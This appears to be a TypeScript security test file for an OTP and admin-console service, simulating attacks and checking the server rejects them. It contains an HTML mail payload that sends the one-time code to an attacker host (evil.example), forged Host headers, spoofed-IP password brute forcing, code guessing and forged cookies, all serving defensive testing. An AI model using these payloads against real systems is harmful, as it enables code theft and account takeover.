import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { readConfig } from '../../src/config/config.ts'
import { openContext } from '../../src/context.ts'
import type { Role } from '../../src/domain/ground/role.ts'
import { addAccount, codeOf as codeOfApp, hidden, nextStep } from '../support/accounts.ts'
import { password, signedIn, Visitor } from '../support/console.ts'
import { temporaryFolder } from '../support/folder.ts'
import { otpost } from '../support/server.ts'
import { type Attack, attack, behindProxy, hasWarned, type Target } from './attack.ts'

const email = 'ana@example.com'
const wrong = { email, password: 'not the password' }
const weak = ['password', 'Tr0ub4dor&3xyz', 'passwordpassword', '123456789012345', 'a'.repeat(20)]

/** A browser at an IP address, without a screen, that follows nothing by itself. */
function browser(target: Target, ip = '198.51.100.1'): Visitor {
  const request: Target['request'] = (method, path, init) =>
    target.request(method, path, { ...init, redirect: 'manual' })
  return new Visitor({ request }, { 'x-forwarded-for': ip })
}

/** An account of the target, which the server knows from the next request on. */
async function accountOf(target: Target, role: Role, clock = { now: Date.now() }) {
  const context = await openContext(readConfig(target.env))
  const account = await addAccount({ app: { context }, clock }, email, role)
  await context.close()
  return account
}

/** Signed in by a link of `otpost admin link`. */
async function administrator(target: Target): Promise<Visitor> {
  const context = await openContext(readConfig(target.env))
  const visitor = browser(target)
  await signedIn({ request: target.request, app: { context } }, visitor)
  await context.close()
  return visitor
}

async function enterWith(visitor: Visitor, code: string): Promise<number> {
  const next = await nextStep(visitor, email)
  return (await visitor.post('/admin/login/code', { next, code })).status
}

/** Loads its image from another server. */
const leakingHtml = '<p>Welcome</p><img src="https://evil.example/?c={{otp}}">'

async function codeOf(target: Target, to: string): Promise<string> {
  return /\d{6}/.exec((await target.messages(to)).at(-1)?.text ?? '')?.[0] ?? ''
}

export const consoleAttacks: readonly Attack[] = [
  attack(
    'a code in the image URL of a mail, stored in the console or by a command',
    behindProxy,
    async (target, check) => {
      const parts = { lang: 'en', subject: 'Code', text: '{{otp}}', html: leakingHtml }
      const visitor = await administrator(target)
      const form = { ...parts, email: '1', key: 'LOGIN_OTP', version: '0' }
      const { status } = await visitor.post('/admin/brands/acme/texts', form)
      check(status === 409, `the console: ${status}`)
      const folder = temporaryFolder()
      const file = join(folder.path, 'mail')
      writeFileSync(file, leakingHtml)
      const set = ['text', 'set', 'acme', 'LOGIN_OTP', '--email', '--subject', 'Code']
      const { code } = await otpost([...set, '--file', file, '--html', file], target.env)
      folder.remove()
      check(code !== 0, 'the command stores it')
    },
  ),
  attack(
    'a fixed code for the phone of a customer, by an operator, an owner and a command',
    { ...behindProxy, PUBLIC_URL: 'http://localhost:3000' },
    async (target, check) => {
      const phone = '+44 7911 123456'
      await target.post('/otp/send', { phone })
      const verified = await target.post('/otp/verify', { phone, otp: await codeOf(target, phone) })
      check(verified.status === 200, `the customer cannot verify: ${verified.status}`)
      const until = new Date().toISOString().slice(0, 10)
      const fields = { phone: '00447911123456', brand: 'acme', until }
      const owner = await administrator(target)
      const added = await owner.post('/admin/review-numbers', fields)
      check(added.status === 409, `an owner: ${added.status}`)
      const add = ['review-number', 'add', phone, '--brand', 'second', '--until', until]
      check((await otpost(add, target.env)).code !== 0, 'the command adds it')
      const ana = await accountOf(target, 'operator')
      const visitor = browser(target)
      await enterWith(visitor, ana.code())
      await visitor.get('/admin')
      const other = await visitor.post('/admin/review-numbers', { ...fields, phone: '+44 7911 654321' })
      check(other.status === 403, `an operator, with another number: ${other.status}`)
    },
  ),
  attack("a new authenticator app for an operator's open session", behindProxy, async (target, check) => {
    const context = await openContext(readConfig(target.env))
    const clock = { now: Date.now() }
    const ana = await addAccount({ app: { context }, clock }, 'ana@example.com', 'operator')
    const visitor = browser(target)
    await enterWith(visitor, ana.code())
    const { html } = await visitor.get('/admin/account')
    const secret = hidden(html, 'secret')
    const uri = context.consoleSecrets.totpUri(ana, secret, 'localhost') ?? ''
    await context.close()
    const fields = { secret, code: codeOfApp(uri, Date.now()) }
    const { status } = await visitor.post('/admin/account/app', fields)
    check(status === 409, `without the present password: ${status}`)
  }),
  attack('weak passwords of accounts', behindProxy, async (target, check) => {
    const ana = await accountOf(target, 'operator')
    const visitor = browser(target)
    await enterWith(visitor, ana.code())
    await visitor.get('/admin/account')
    const isAccepted = async (word: string) =>
      (await visitor.post('/admin/account/password', { present: password, password: word })).status === 303
    for (const word of weak) check(!(await isAccepted(word)), `${word} is accepted`)
    check(await isAccepted('vessel-19-quartz-lantern'), 'a strong one is not accepted')
  }),
  attack(
    '250 wrong passwords from 25 IP addresses, to lock the operator out',
    behindProxy,
    async (target, check) => {
      const ana = await accountOf(target, 'operator')
      const known = browser(target)
      await enterWith(known, ana.code())
      for (let count = 0; count < 250; count++)
        await browser(target, `203.0.113.${count % 25}`).post('/admin/login', wrong)
      const { status } = await known.post('/admin/login', { email, password })
      check(status === 200, `the operator, in a browser of an earlier session: ${status}`)
      const other = await browser(target, '198.51.100.2').post('/admin/login', { email, password })
      const waitSeconds = Number(other.headers.get('retry-after') ?? 0)
      check(waitSeconds <= 60, `the operator, in another browser: waits ${waitSeconds} s`)
    },
  ),
  attack(
    "guessed and used codes of an operator's app, with the password",
    behindProxy,
    async (target, check) => {
      const clock = { now: Date.now() }
      const ana = await accountOf(target, 'operator', clock)
      const known = browser(target)
      const used = ana.code()
      check((await enterWith(known, used)) === 303, 'the operator cannot sign in')
      let last = 0
      for (let count = 0; count < 30; count++) {
        last = await enterWith(browser(target, `203.0.113.${count}`), count === 0 ? used : '000000')
        check(last !== 303, `code ${count} is accepted`)
      }
      check(last === 429, `the last: ${last}`)
      clock.now += 30_000
      const status = await enterWith(known, ana.code())
      check(status === 303, `the operator, in a browser of an earlier session: ${status}`)
    },
  ),
  attack('40 wrong passwords from one IP address', behindProxy, async (target, check) => {
    await accountOf(target, 'owner')
    const visitor = browser(target)
    let last = 0
    for (let count = 0; count < 40; count++) last = (await visitor.post('/admin/login', wrong)).status
    check(last === 429, `the last: ${last}`)
  }),
  attack('wrong passwords that leave no IP address in the log', behindProxy, async (target, check) => {
    await accountOf(target, 'owner')
    await browser(target, '203.0.113.9').post('/admin/login', wrong)
    check(await hasWarned(target, /203\.0\.113\.9/), 'no warning has it')
  }),
  attack('a forged flash cookie, to show words in the console', behindProxy, async (target, check) => {
    const visitor = await administrator(target)
    const words = JSON.stringify(['good', 'Call 555 0100'])
    const signature = Buffer.alloc(32).toString('base64url')
    for (const forged of [encodeURIComponent(words), Buffer.from(words).toString('base64url')]) {
      for (const value of [forged, `${forged}.${signature}`, `${signature}.${forged}`]) {
        // The former name and the present one.
        for (const name of ['otpost_said', 'otpost_flash']) visitor.cookies.set(name, value)
        const { html, status } = await visitor.get('/admin')
        check(status === 200 && !html.includes('Call 555 0100'), `${status}, with the words`)
      }
    }
  }),
  attack('/admin/link, to learn whether a sign-in link is live', {}, async (target, check) => {
    const look = async () => {
      const { status, body } = await target.request('GET', '/admin/link', {
        headers: { accept: 'text/html' },
      })
      return `${status} ${body}`
    }
    const before = await look()
    const { code, stderr } = await otpost(['admin', 'link'], target.env)
    check(code === 0, stderr)
    const after = await look()
    check(before === after, `${before.slice(0, 3)} without a link, ${after.slice(0, 3)} with one`)
  }),
  attack(
    'a Host header in the curl line of the page that shows a new key',
    behindProxy,
    async (target, check) => {
      const visitor = await administrator(target)
      const headers = [
        { host: 'evil.example' },
        { host: 'localhost:6666' },
        { 'x-forwarded-host': 'evil.example' },
      ]
      for (const [index, forged] of headers.entries()) {
        const form = { 'sec-fetch-site': 'same-origin', ...forged }
        const { html } = await visitor.post('/admin/apps/issue', { appId: `app${index}` }, form)
        for (const name of Object.values(forged)) check(!html.includes(name), `it shows ${name}`)
      }
    },
  ),
]
